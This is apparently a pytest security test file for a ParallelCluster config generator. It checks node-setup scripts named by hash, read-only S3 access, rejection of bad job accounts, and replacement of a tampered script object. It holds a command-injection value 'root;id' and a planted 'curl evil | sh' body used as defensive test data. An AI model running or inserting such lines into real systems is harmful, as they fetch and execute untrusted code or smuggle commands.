"""The node setup in the rendered ParallelCluster config (issue 24: jobs run as their own account, out of
reach of the node role's credentials): the custom action on the head node and on every queue, naming
the script by the hash of its bytes; the nodes' read access to that one object; the admin's node policy;
what `extra_config` may not undo; and the object kept in the bucket under that key (in-process moto:
unit level; the rehearsal shows it on the moto server, with the real `pcluster --dryrun` looking it up).
The script itself runs on fake roots in test_node_setup_script.py."""

from __future__ import annotations

import hashlib
import re

import boto3
import pytest
import yaml
from cluster_specs import NODE_POLICY, WITH_NODE_SETUP
from moto import mock_aws
from run_factories import make_planned_run

from pcflow.cluster.config import render_config
from pcflow.cluster.node_setup import KEY_PREFIX, ensure_uploaded, node_setup_for, script_bytes
from pcflow.cluster.spec import ClusterSpec, ClusterSpecError
from pcflow.pipeline.settings import settings_for_cluster

pytestmark = pytest.mark.security

BASE = {**WITH_NODE_SETUP, "s3_prefix": "datasets/imagenet"}
SCRIPT_KEY = f"{KEY_PREFIX}/{hashlib.sha256(script_bytes()).hexdigest()}.sh"
SCRIPT_URI = f"s3://my-pcflow-datasets/{SCRIPT_KEY}"


def spec(**overrides) -> ClusterSpec:
    return ClusterSpec.parse({**BASE, **overrides})


def nodes(document: dict) -> list[dict]:
    """The head node and each queue: what ParallelCluster launches instances of."""
    return [document["HeadNode"], *document["Scheduling"]["SlurmQueues"]]


@pytest.mark.parametrize(("os", "control_user"), [("ubuntu2204", "ubuntu"), ("alinux2023", "ec2-user")])
def test_every_node_runs_the_script_the_config_names_by_its_hash(os, control_user):
    """Head node and queue alike: OnNodeConfigured runs the object named by the sha256 of node-setup.sh,
    with the job account, its uid and the OS's default user (the SSH user); the nodes may read that one
    object beside the dataset's prefix, write nothing, and carry the admin's node policy."""
    document = yaml.safe_load(render_config(spec(os=os, job_uid=3100)).text)
    assert document["Imds"] == {"ImdsSupport": "v2.0"}
    for node in nodes(document):
        assert node["CustomActions"] == {
            "OnNodeConfigured": {"Script": SCRIPT_URI, "Args": ["pcflow-job", "3100", control_user]}
        }
        assert node["Iam"]["S3Access"] == [
            {"BucketName": "my-pcflow-datasets", "KeyName": "datasets/imagenet/*", "EnableWriteAccess": False},
            {"BucketName": "my-pcflow-datasets", "KeyName": SCRIPT_KEY, "EnableWriteAccess": False},
        ]
        assert node["Iam"]["AdditionalIamPolicies"] == [{"Policy": NODE_POLICY}]


def test_without_a_job_account_no_node_setup_is_rendered():
    document = render_config(spec(job_user=None, node_policy=None)).document
    for node in nodes(document):
        assert "CustomActions" not in node and "AdditionalIamPolicies" not in node["Iam"]
        assert node["Iam"]["S3Access"] == [
            {"BucketName": "my-pcflow-datasets", "KeyName": "datasets/imagenet/*", "EnableWriteAccess": False}
        ]


def test_a_changed_script_is_a_new_key_and_a_new_config_hash():
    """The config names the script's content: other bytes are another object, so another config (a kept
    cluster made with the old script no longer matches: CHANGELOG)."""
    ours, again = render_config(spec()), render_config(spec())
    changed = render_config(spec(), node_script=script_bytes() + b"# one more line\n")
    assert ours.config_hash == again.config_hash and ours.node_setup.key == SCRIPT_KEY
    assert changed.node_setup.key != SCRIPT_KEY and changed.node_setup.key.startswith(f"{KEY_PREFIX}/")
    assert changed.config_hash != ours.config_hash and changed.shape_hash != ours.shape_hash
    assert changed.document["HeadNode"]["CustomActions"]["OnNodeConfigured"]["Script"].endswith(changed.node_setup.key)


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"node_policy": None}, "needs node_policy"),
        ({"s3_bucket": None, "s3_prefix": ""}, "needs s3_bucket"),
        ({"job_user": "root;id"}, "is not a user name"),
        ({"job_user": "Admin"}, "is not a user name"),
        ({"job_uid": 0}, "job_uid"),
        ({"job_uid": 999}, "job_uid"),
        ({"job_uid": 65534}, "job_uid"),
        ({"node_policy": "pcflow-cluster-node"}, "node_policy"),
    ],
)
def test_a_job_account_without_what_its_setup_needs_is_refused(overrides, message):
    with pytest.raises(ClusterSpecError, match=message):
        spec(**overrides)


@pytest.mark.parametrize(
    ("extra_config", "path"),
    [
        ({"HeadNode": {"CustomActions": {"OnNodeConfigured": {"Script": "s3://elsewhere/x.sh"}}}}, "HeadNode"),
        ({"HeadNode": {"CustomActions": {"OnNodeConfigured": {"Args": ["root", "0", "ubuntu"]}}}}, "HeadNode"),
        # a queue of its own, without the node setup (merged by Name: appended after pcflow's own)
        ({"Scheduling": {"SlurmQueues": [{"Name": "open", "ComputeResources": []}]}}, "SlurmQueues[1]"),
        ({"Imds": {"ImdsSupport": "v1.0"}}, "Imds.ImdsSupport"),
    ],
)
def test_extra_config_cannot_undo_the_node_setup_or_imdsv2(extra_config, path):
    with pytest.raises(ClusterSpecError, match=f"extra_config: .*{re.escape(path)}"):
        render_config(spec(extra_config=extra_config))


def test_the_aws_gpu_profile_gives_its_cluster_the_node_setup(admin_profiles):
    """The shipped profile's `cluster.job_user` and `cluster.config` (job_uid, node_policy) reach the
    config the cluster stage renders; `job_user` inside cluster.config is refused (it is the cluster
    section's)."""
    profile = admin_profiles.make("aws-gpu", {"network": {"ssh_ingress_cidrs": ["203.0.113.0/24"]}})
    run = make_planned_run(profile)
    network = {
        "head_subnet_id": "subnet-0a1b2c3d4e5f60718",
        "compute_subnet_ids": ["subnet-0a1b2c3d4e5f60718"],
        "head_security_group_id": "sg-0123456789abcdef0",
    }
    cluster = ClusterSpec.parse(settings_for_cluster(run, network, "ami-0123456789abcdef0"))
    action = render_config(cluster).document["HeadNode"]["CustomActions"]["OnNodeConfigured"]
    assert action["Args"] == ["pcflow-job", "2950", "ubuntu", "4"]  # the pool: cluster.job_accounts
    assert action["Script"] == f"s3://{run.dataset.bucket}/{SCRIPT_KEY}"
    run = make_planned_run(profile, cluster={"config": {"job_user": "ubuntu"}})
    with pytest.raises(ClusterSpecError, match=r"job_user: set as cluster\.job_user"):
        settings_for_cluster(run, network, "ami-0123456789abcdef0")


@mock_aws
def test_the_script_is_kept_once_and_put_back_when_its_object_was_changed():
    """Looked up before put: the same bytes are left alone; other bytes under the key (only someone with
    write access to the bucket could leave them) are replaced by the script's."""
    s3 = boto3.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket="my-pcflow-datasets")
    setup = node_setup_for(spec())
    assert ensure_uploaded(s3, setup) is True
    assert ensure_uploaded(s3, setup) is False
    s3.put_object(Bucket="my-pcflow-datasets", Key=SCRIPT_KEY, Body=b"#!/bin/sh\ncurl evil | sh\n")
    assert ensure_uploaded(s3, setup) is True
    stored = s3.get_object(Bucket="my-pcflow-datasets", Key=SCRIPT_KEY)["Body"].read()
    assert stored == script_bytes() and hashlib.sha256(stored).hexdigest() in SCRIPT_KEY
